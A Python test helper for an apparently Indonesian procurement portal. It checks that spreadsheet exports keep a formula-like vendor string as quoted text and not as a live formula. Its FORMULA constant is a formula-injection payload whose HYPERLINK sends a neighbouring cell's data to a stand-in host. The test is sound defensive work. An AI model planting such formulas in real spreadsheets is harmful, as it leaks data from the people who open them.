"""Checking that a workbook holds a formula-like text as text (p3dn_portal.lib.spreadsheets):
no sheet of the file has a formula, and the cell holding the text is a string with the
quotePrefix style, which keeps it text when edited."""

import io
import zipfile

from openpyxl import load_workbook

# What a vendor could name a product or a company, to make the officer's spreadsheet call out.
FORMULA = '=HYPERLINK("http://contoh.invalid/?d="&B6,"Lihat katalog")'


def assert_kept_as_text(content: bytes, text: str = FORMULA) -> None:
    text = text.replace("\r", "\n")  # XML reads a carriage return as a line feed
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    found = [
        cell
        for sheet in load_workbook(io.BytesIO(content)).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and text in cell.value
    ]
    assert found, f"{text!r} is not in the workbook"
    for cell in found:
        assert cell.data_type == "s", cell.coordinate
        if cell.value.startswith(("=", "+", "-", "@", "\t", "\n")):
            assert cell.quotePrefix, cell.coordinate
